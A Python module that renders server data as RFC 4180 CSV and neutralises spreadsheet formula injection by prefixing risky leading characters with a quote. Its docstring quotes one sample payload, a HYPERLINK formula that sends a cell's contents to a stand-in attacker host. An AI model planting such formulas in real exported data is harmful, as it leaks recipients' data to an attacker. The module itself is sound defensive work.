"""CSV that a spreadsheet opens as data: every CSV the server writes goes through `table`.

A cell that starts with `=`, `+`, `-` or `@` (or a tab, carriage return or line feed ahead of one)
is read by Excel, LibreOffice and Google Sheets as a formula: a participant named
`=HYPERLINK("https://evil.example?"&A1, "click")` would run in the instructor's spreadsheet. As
OWASP advises, such a text cell is prefixed with a single quote, which the spreadsheet shows as
text, and is quoted. Full-width forms of those characters count too: some spreadsheets fold them.
The JSON answers keep the real values; only this rendering changes them.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Quoted so that no reader splits the cell: the RFC 4180 specials, plus the `;` and tab that
# spreadsheets use as separators in some locales (an unquoted `a;=1+1` is two cells there).
_NEEDS_QUOTES = frozenset(',";\t\r\n')


def cell(value: Any) -> str:
    """One field: None is empty, numbers as they are, text neutralised and quoted where needed."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)  # a number is data, even when negative
    text = str(value)
    neutralised = text[:1] in FORMULA_START
    if neutralised:
        text = "'" + text
    if neutralised or any(c in _NEEDS_QUOTES for c in text):
        return '"' + text.replace('"', '""') + '"'
    return text


def table(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """RFC 4180 CSV (CRLF line ends) with a header row; missing fields are empty."""
    lines = [",".join(cell(c) for c in columns)]
    lines += [",".join(cell(r.get(c)) for c in columns) for r in rows]
    return "".join(line + "\r\n" for line in lines)
